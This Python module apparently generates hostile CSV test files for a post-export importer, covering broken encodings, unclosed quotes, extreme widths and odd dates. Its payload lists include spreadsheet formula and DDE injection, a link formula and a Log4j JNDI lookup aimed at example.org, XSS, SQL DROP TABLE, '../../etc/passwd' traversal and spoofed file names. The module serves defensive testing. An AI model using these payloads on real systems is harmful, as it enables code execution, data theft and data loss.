"""Text files: encodings, widths, quotation marks, line ends, and cells that attack whoever shows them."""

from random import Random

from hostile.exports import make_export, written
from hostile.files import Family, HostileFile, Must

from services.importers.text_file import MOST_COLUMNS

_HEADER = ("status_id", "status_published", "num_comments", "num_shares", "status_message")
_ATTACKS = (
    '=HYPERLINK("http://example.org/"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "</script><svg onload=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://example.org}",
    "%s%n%x",
    "{0.__class__}",
    "__proto__",
    "constructor",
    "'; DROP TABLE posts; --",
    "\u202eevil\u202c",
    "\u2066\u2069\u200b\ufeff",
    "a\u0000b",
    "\x1b[31m\x07\x08",
    "\u0301" * 200,
    "﷽" * 40,
    "NaN",
    "null",
    "../../etc/passwd",
    "x" * 30_000,
    "🏳️‍🌈" * 300,
)
_FIGURES = (
    *("1e309", "-1e309", "NaN", "inf", "-0", "9" * 30, "9223372036854775808", "-9223372036854775809", "0x1F", "1_000"),
    *(
        "١٢٣",
        "²",
        "1.2.3",
        "1,2,3",
        "1e5",
        "1E+18",
        "007",
        "+5",
        "--5",
        "5-",
        "1.5K",
        "99999M",
        "9e99K",
        "٫",
        " ",
        "#REF!",
    ),
)
_MOMENTS = (
    *("9999-12-31 23:59:59", "0000-00-00", "1969-12-31", "2024-02-30 10:00", "31/31/2024", "99999", "73415.99999"),
    *("2024-01-01T25:00:00Z", "2024-01-01 10:00 +9999", "1e10", "-1", "0", "Feb 30, 2024", "12:00", "soon", "1/2/3"),
    *("2024-01-01 10:00:00.999999999999", "32874", "Mon, Jan 1, 2024", "٢٠٢٤-٠١-٠١", "2024-1-1 1:1", "13/13/13 13:13"),
)
_ENCODINGS = (
    "cp1252",
    "cp874",
    "shift_jis",
    "gb18030",
    "koi8-r",
    "utf-7",
    "cp037",
    "utf-16-le",
    "utf-16-be",
    "utf-32-be",
)
_NAMES = (
    *("../../x.csv", "..%2f..%2fx.csv", "a\r\nb.csv", "x" * 300 + ".csv", "CON.csv", "\u202ecsv.exe", "<script>.csv"),
    *('"; filename=x.csv', "\x00.csv", "=1+1.csv", "nul\x00l.csv", ".csv", "   ", "\u200b", "💥.csv", "C:\\x\\y.csv"),
)


def _rows(draw: Random, rows: int = 6) -> list[list[str]]:
    return [[f"id{n}", f"2024-01-{1 + n % 28:02d} 10:00:00", str(n), "5", "tea"] for n in range(rows)]


def _file(table: list[list[str]], **known: int | Must) -> HostileFile:
    return HostileFile(written([list(_HEADER), *table]).encode(errors="surrogatepass"), **known)


def encodings(draw: Random) -> HostileFile:
    """In an encoding that nobody states."""
    text = make_export(draw).text().replace("🎉🎊", "")
    return HostileFile(text.encode(draw.choice(_ENCODINGS), errors="replace"))


def two_encodings(draw: Random) -> HostileFile:
    """Rows of several programs, each in its own encoding."""
    lines = make_export(draw, 40).text().replace("🎉🎊", "").splitlines(keepends=True)
    return HostileFile(
        b"".join(line.encode(draw.choice(("utf-8", *_ENCODINGS[:5])), errors="replace") for line in lines)
    )


def wrong_mark(draw: Random) -> HostileFile:
    """The byte-order mark of another encoding, or several."""
    marks = (b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf", b"\xff\xfe\x00\x00", b"\x00\x00\xfe\xff")
    return HostileFile(b"".join(draw.choices(marks, k=draw.randint(1, 3))) + make_export(draw).text().encode())


def half_characters(draw: Random) -> HostileFile:
    """Halves of characters, as broken programs write them."""
    rows = _rows(draw)
    rows[draw.randrange(6)][draw.choice((0, 4))] = draw.choice(("\ud800", "a\udfffb", "\ud83d", "\udc00\ud800"))
    text = written([list(_HEADER), *rows])
    return HostileFile(text.encode(draw.choice(("utf-8", "utf-16", "utf-16-le")), errors="surrogatepass"))


def broken_bytes(draw: Random) -> HostileFile:
    """Bytes that are no UTF-8, here and there."""
    content = bytearray(make_export(draw, 30).text().encode())
    for _ in range(draw.randint(1, 60)):
        content[draw.randrange(len(content))] = draw.randint(0x80, 0xFF)
    return HostileFile(bytes(content))


def nuls(draw: Random) -> HostileFile:
    """NUL characters in cells, header and line ends."""
    content = bytearray(make_export(draw, 30).text().encode())
    for _ in range(draw.randint(1, 40)):
        content.insert(draw.randrange(len(content)), 0)
    return HostileFile(bytes(content) + bytes(draw.choice((0, 0, 4_096))))


def ragged(draw: Random) -> HostileFile:
    """Rows of any width."""
    rows = [(row * 3)[: draw.randint(1, 12)] for row in _rows(draw, 40)]
    return _file(rows, rows=40)


def narrow_then_trailing(draw: Random) -> HostileFile:
    """A header with many spare columns, short rows below it, and one with more cells at the very end."""
    spare = [f"spare {n}" for n in range(3)]
    rows = [row[:4] for row in _rows(draw, draw.choice((500, 60_000)))]
    return HostileFile(
        written([[*_HEADER[:4], *spare], *rows, [*rows[0], "", "", "", "", ""]]).encode(), rows=len(rows) + 1
    )


def one_endless_line(draw: Random) -> HostileFile:
    """Millions of characters without a line end, with or without delimiters."""
    length = draw.choice((900_000, 3_000_000, 12_000_000))
    return HostileFile(draw.choice((b"x", b"x,", b'"', b"=", b" ", b'","')) * length, must=Must.REFUSED)


def many_columns(draw: Random) -> HostileFile:
    """More columns than any tool writes."""
    wide = draw.choice((MOST_COLUMNS + 1, 3_000, 20_000, 300_000))
    header = [*_HEADER, *(f"c{n}" for n in range(wide - len(_HEADER)))]
    rows = [[*row, *[""] * (wide - len(row))] for row in _rows(draw, 3)]
    return HostileFile(written([header, *rows]).encode(), must=Must.REFUSED)


def as_many_columns_as_there_may_be(draw: Random) -> HostileFile:
    """A thousand columns, or one more would be too many."""
    wide = draw.choice((1_000, MOST_COLUMNS))
    header = [*_HEADER, *(f"c{n}" for n in range(wide - len(_HEADER)))]
    rows = [[*row, *["7"] * (wide - len(row))] for row in _rows(draw, 50)]
    return HostileFile(written([header, *rows]).encode(), must=Must.READ, rows=50)


def wide_rows(draw: Random) -> HostileFile:
    """A header like any other, and rows of very many cells."""
    return _file([*_rows(draw), ["x"] * draw.choice((5_000, 900_000))], rows=7)


def huge_cells(draw: Random) -> HostileFile:
    """Cells as long as books."""
    rows = _rows(draw)
    rows[2][draw.choice((0, 1, 2, 4))] = "long " * draw.choice((10_000, 199_000, 201_000, 1_500_000))
    return _file(rows, rows=6)


def open_quote(draw: Random) -> HostileFile:
    """A quotation mark that is never closed, and everything below it."""
    lines = make_export(draw, draw.choice((20, 5_000)), "scraper").text().splitlines()
    place = draw.randrange(len(lines) // 2, len(lines))
    lines[place] = f'"{lines[place]}'
    return HostileFile("\n".join(lines).encode())


def huge_open_quote(draw: Random) -> HostileFile:
    """The same, and tens of megabytes below it."""
    body = f'{",".join(_HEADER)}\n1,2024-01-01,3,4,"never closed\n'
    return HostileFile(
        body.encode() + draw.choice((b"x\n", b"x" * 70 + b"\n", b"1,2,3\n")) * draw.choice((10**5, 10**6))
    )


def quotes_that_reach_on(draw: Random) -> HostileFile:
    """Every other row opens a quotation mark that swallows all rows below it, and none of them closes it."""
    good, bad = "7,2024-01-01 10:00:00,3,4,tea\n", 'x","2024.\n'
    return HostileFile((",".join(_HEADER) + "\n" + (bad + good) * draw.choice((40, 3_000, 30_000))).encode())


def quotes_everywhere(draw: Random) -> HostileFile:
    """Quotation marks at random."""
    content = list(make_export(draw, 30).text())
    for _ in range(draw.randint(1, 90)):
        content.insert(draw.randrange(len(content)), '"')
    return HostileFile("".join(content).encode())


def mixed_line_ends(draw: Random) -> HostileFile:
    """Every line with an end of its own."""
    ends = ("\n", "\r\n", "\r", "\n\r", "\u2028", "\x0b", "\x0c", "\x85", "\r\r\n")
    lines = make_export(draw, 30).text().splitlines()
    return HostileFile("".join(line + draw.choice(ends) for line in lines).encode())


def attacking_cells(draw: Random) -> HostileFile:
    """Formulas, scripts, templates and marks that turn the writing around, in cells."""
    rows = _rows(draw, 12)
    for row in rows:
        row[draw.choice((0, 4, 4, 4))] = draw.choice(_ATTACKS)
    rows[draw.randrange(12)][1] = draw.choice(_ATTACKS)
    return _file(rows, rows=12)


def attacking_headers(draw: Random) -> HostileFile:
    """The same in the header, beside columns that are known, or instead of them."""
    header = [*_HEADER[: draw.choice((2, 5))], *draw.sample(_ATTACKS, 5)]
    draw.shuffle(header)
    rows = [draw.choices(("1", "2024-01-01", "tea", *_ATTACKS[:4]), k=len(header)) for _ in range(9)]
    return HostileFile(written([header, *rows]).encode())


def odd_headers(draw: Random) -> HostileFile:
    """Headers that stand twice, are empty, or fold to one another."""
    more = (
        "",
        " ",
        "num_comments",
        "NUM_COMMENTS ",
        "\ufeffnum_shares",
        "ｎｕｍ_likes",
        "num_comments",
        "ſtatus_id",
        "İ",
    )
    header = [*_HEADER, *draw.choices(more, k=draw.randint(1, 12))]
    draw.shuffle(header)
    rows = [draw.choices(("1", "2", "2024-01-01 10:00", "tea", ""), k=len(header)) for _ in range(9)]
    return HostileFile(written([header, *rows]).encode())


def hostile_names(draw: Random) -> HostileFile:
    """A table that is as it should be, under a name that is not."""
    export = make_export(draw)
    content = export.text().encode()
    return HostileFile(content, draw.choice(_NAMES), Must.READ, len(export.rows), export.tokens, export.values)


def odd_figures(draw: Random) -> HostileFile:
    """Figures that are none, or too large for a machine."""
    rows = _rows(draw, 40)
    for row in rows[draw.choice((0, 20, 39)) :]:
        row[draw.choice((2, 3))] = draw.choice(_FIGURES)
    return _file(rows, rows=40)


def odd_dates(draw: Random) -> HostileFile:
    """Days that are none, or no day of any network."""
    rows = _rows(draw, 40)
    for row in rows[draw.choice((0, 20, 39)) :]:
        row[1] = draw.choice(_MOMENTS)
    return _file(rows, rows=40)


def nothing_below(draw: Random) -> HostileFile:
    """A header, and nothing but blank lines."""
    return HostileFile((",".join(_HEADER) + "\n" * draw.choice((0, 1, 1_000_000))).encode(), must=Must.REFUSED)


def only_delimiters(draw: Random) -> HostileFile:
    """Very many rows without content."""
    rows = draw.choice((9, 200_000))
    return HostileFile((",".join(_HEADER) + "\n" + ",,,,\n" * rows).encode(), must=Must.REFUSED)


def one_row(draw: Random) -> HostileFile:
    """A single post."""
    return _file(_rows(draw, 1), rows=1, must=Must.READ)


def all_the_same(draw: Random) -> HostileFile:
    """One row over and over, with or without its id."""
    row = _rows(draw)[0]
    same = [row if draw.random() < 0.5 else [f"other{n}", *row[1:]] for n in range(300)]
    return _file(same, rows=300, must=Must.READ)


def nothing_measured(draw: Random) -> HostileFile:
    """Counts without a single figure."""
    return _file([[*row[:2], draw.choice(("", "N/A", "-")), "", row[4]] for row in _rows(draw)], must=Must.REFUSED)


def headers_again(draw: Random) -> HostileFile:
    """Files put together: headers, totals and notes between the rows."""
    rows = _rows(draw, 30)
    others = (list(_HEADER), ["Total", "", "900", "30", ""], ["Showing top 500 results"], ["", "", "", "", ""])
    for _ in range(9):
        rows.insert(draw.randrange(len(rows)), draw.choice(others))
    return _file(rows, rows=39, must=Must.READ)


def header_far_below(draw: Random) -> HostileFile:
    """The header stands behind many lines of something else."""
    above = "\n".join(f"note {n}" for n in range(draw.choice((5, 19, 20, 500)))) + "\n"
    return HostileFile((above + written([list(_HEADER), *_rows(draw)])).encode())


def odd_delimiters(draw: Random) -> HostileFile:
    """Cells parted by what no program uses."""
    text = make_export(draw).text()
    return HostileFile(text.replace(",", draw.choice((":", "\x01", "\x1f", "::", " ", "¦", "،", ";,", "/"))).encode())


def told_delimiters(draw: Random) -> HostileFile:
    """A first line that says how cells are parted, truly or not."""
    told = draw.choice(("sep=,", "sep=;", "sep=", "SEP=\t", "sep=x", "sep=,,", 'sep="', "sep=\x00", "\ufeffsep=|"))
    return HostileFile((told + draw.choice(("\n", "\r\n", "")) + make_export(draw).text()).encode())


FAMILY = Family(
    "texts",
    30,
    {
        make.__name__.replace("_", " "): make
        for make in (
            encodings,
            two_encodings,
            wrong_mark,
            half_characters,
            broken_bytes,
            nuls,
            ragged,
            narrow_then_trailing,
            one_endless_line,
            many_columns,
            as_many_columns_as_there_may_be,
            wide_rows,
            huge_cells,
            open_quote,
            huge_open_quote,
            quotes_that_reach_on,
            quotes_everywhere,
            mixed_line_ends,
            attacking_cells,
            attacking_headers,
            odd_headers,
            hostile_names,
            odd_figures,
            odd_dates,
            nothing_below,
            only_delimiters,
            one_row,
            all_the_same,
            nothing_measured,
            headers_again,
            header_far_below,
            odd_delimiters,
            told_delimiters,
        )
    },
)
